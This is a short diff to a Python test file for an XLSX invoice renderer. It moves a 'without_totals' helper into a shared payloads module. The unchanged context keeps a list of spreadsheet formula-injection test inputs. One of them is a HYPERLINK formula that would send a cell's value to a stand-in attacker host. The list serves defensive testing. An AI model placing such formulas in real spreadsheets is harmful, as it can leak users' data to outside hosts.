@@ -14,7 +14,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 from invoices.document import build_document
 from invoices.document.model import Document, RenderOptions
 from invoices.renderers.xlsx import CONTENT_TYPE, TABLE_HEADER, render_xlsx
-from tests.payloads import sample_payload
+from tests.payloads import sample_payload, without_totals
 
 FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
 
@@ -38,13 +38,6 @@ def find(sheet: Worksheet, text: str) -> Cell:
             if cell.value == text:
                 return cell
     raise AssertionError(f"{text!r} not in the sheet")
-
-
-def without_totals(**changes: Any) -> dict[str, Any]:
-    payload = sample_payload()
-    del payload["invoice"]["totals"]
-    payload["invoice"].update(changes)
-    return payload
 
 
 @pytest.fixture(scope="module")
